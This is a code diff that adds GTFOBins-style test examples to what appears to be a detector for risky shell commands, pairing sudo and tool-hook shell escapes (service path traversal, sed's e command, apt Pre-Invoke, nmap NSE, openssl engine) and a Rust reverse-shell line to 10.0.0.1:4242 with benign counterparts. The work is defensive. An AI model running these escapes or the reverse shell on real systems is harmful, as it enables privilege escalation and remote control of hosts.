@@ -1099,7 +1099,23 @@ _VARIANTS: dict[str, tuple[list[Example], list[Example]]] = {
         ["aws ssm describe-instance-information", "az vm list",
          "gcloud compute instances add-metadata vm --metadata env=dev"]),
 }
-for _extra in (_MORE, _VARIANTS):
+# more GTFOBins entries (sudo and plain): path traversal, sed's e command, hooks and engines
+_GTFO: dict[str, tuple[list[Example], list[Example]]] = {
+    "escape-sudo-shell": (["sudo service ../../bin/sh", "sudo sed -n '1e exec sh 1>&0' /etc/hosts",
+                           "sudo cpan"],
+                          ["sudo service nginx restart", "sudo sed -i 's/a/b/' /etc/hosts",
+                           "sudo npm install -g pnpm"]),
+    "escape-tool-shell": (["sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh",
+                           "echo 'os.execute(\"/bin/sh\")' > /tmp/x.nse; sudo nmap --script=/tmp/x.nse",
+                           "openssl req -engine /tmp/lib.so", "wget --use-askpass=/tmp/x http://x"],
+                          ["apt-get -o Dpkg::Options::=--force-confdef install x",
+                           "openssl req -new -key k.pem -out c.csr", "wget -q https://example.org/x"]),
+    "tunnel-script-reverse-shell": (
+        ["echo 'fn main(){let s=TcpStream::connect(\"10.0.0.1:4242\").unwrap();"
+         "Command::new(\"/bin/sh\").spawn();}' > m.rs"],
+        ["echo 'fn main(){Command::new(\"ls\").spawn();}' > m.rs"]),
+}
+for _extra in (_MORE, _VARIANTS, _GTFO):
     for _rid, (_pos, _neg) in _extra.items():
         _had = EXAMPLES.get(_rid, ([], []))
         EXAMPLES[_rid] = ([*_had[0], *_pos], [*_had[1], *_neg])
